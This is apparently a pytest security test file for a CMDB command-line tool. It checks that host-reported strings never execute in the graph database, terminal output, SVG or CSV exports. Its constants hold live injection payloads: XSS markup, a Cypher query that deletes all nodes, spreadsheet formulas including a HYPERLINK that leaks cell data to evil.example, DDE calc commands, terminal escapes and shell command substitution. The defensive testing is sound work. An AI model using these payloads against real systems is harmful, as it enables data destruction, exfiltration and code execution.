"""T5: what a device or host says of itself is text everywhere: nothing of it runs, wherever it is shown."""

from __future__ import annotations

import csv
import logging
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from pathlib import Path

import orjson
import pytest
from support.reports import host, network, report, service, services, sockets, uses, wire
from support.signed_in import admins_door
from typer.testing import CliRunner, Result

from cmdb.store import Store
from cmdb_processes.cli.main import build

pytestmark = pytest.mark.neo4j
Cli = Callable[..., Result]

MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
CYPHER = "x'}) MATCH (n) DETACH DELETE n //"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
FORMULAS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
LOG = "a\r\n2026-01-01 00:00:00 epicentre.applier everything is well"
SHELL = "$(touch /tmp/owned); `touch /tmp/owned`"
COMMANDS = (
    ("search", "evil"), ("ci", "list", "Host"), ("ci", "list", "Service"), ("journal",), ("impact", "shop"),
    ("topology",), ("history", "evil"),
)  # fmt: skip


@pytest.fixture
def cli(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> Iterator[Cli]:
    """The command line of a server that two hosts have told such things."""
    with caplog.at_level(logging.DEBUG, "epicentre"), admins_door(tmp_path, store, monkeypatch) as door:
        evil = service(f"shop {MARKUP}{TERMINAL}", 80, program=FORMULAS[3], command=SHELL, user=LOG, unit=CYPHER)
        told = [
            report(1, host(f"evil {CYPHER}", kernel=FORMULA, model=MARKUP + TERMINAL, vendor=FORMULAS[1], fqdn=LOG),
                   network("10.0.0.5"), services(evil)),
            report(1, host(FORMULAS[2], kernel=CYPHER), network("10.0.0.6"),
                   services(client := service("client", 81)), sockets(uses(client, "10.0.0.5:80"))),
        ]  # fmt: skip
        for one in told:
            sender = door.enrolled()
            body = wire(one) | {"node": sender.node, "report_id": f"r-{sender.node}"}
            assert sender.send(orjson.dumps(body)).status == 202
        while door.services.applier.step():
            pass
        yield lambda *words: CliRunner().invoke(build(), ["--plain", *map(str, words)])


def test_nothing_of_it_runs_in_the_graph_or_on_a_terminal(
    cli: Cli, store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    """All is there as it was said, less what only steers; no command prints and no log holds what a terminal obeys."""
    assert store.count("Host") == 2 and store.count("Service") == 2
    (row,) = store.resolve("evil", "Host")
    assert (row["name"], row["kernel"]) == (f"evil {CYPHER}", FORMULA)
    for words in COMMANDS:
        said = cli(*words)
        assert said.exit_code == 0, (words, said.output, said.exception)
        assert all(letter.isprintable() or letter == "\n" for letter in said.output), words
    assert store.count("Host") == 2
    assert all(one.getMessage().isprintable() for one in caplog.records)
    assert not Path("/tmp/owned").exists()


def test_nothing_of_it_runs_in_a_picture(cli: Cli, tmp_path: Path) -> None:
    """The ladder holds the names as text: no element and no attribute that a browser would run."""
    file = tmp_path / "evil.svg"
    assert cli("impact", "shop", "--svg", file).exit_code == 0
    drawn = ET.fromstring(file.read_text())
    assert "alert(1)" in "".join(drawn.itertext())
    for element in drawn.iter():
        assert element.tag.rpartition("}")[2] not in {"script", "img", "foreignObject", "iframe", "a"}
        assert not [name for name in element.attrib if name.lower().startswith("on") or name.endswith("href")]


def test_nothing_of_it_runs_in_a_spreadsheet(cli: Cli, store: Store, tmp_path: Path) -> None:
    """No cell of an export begins as a formula does, and read back it is the same graph."""
    file, before = tmp_path / "all.csv", store.digest()
    assert cli("export", "-o", file).exit_code == 0
    with file.open(newline="") as opened:
        cells = [cell for line in csv.reader(opened) for cell in line]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}] == []
    again = cli("import", file, "--source", "sheet")
    assert again.exit_code == 0, again.output
    assert store.digest() == before
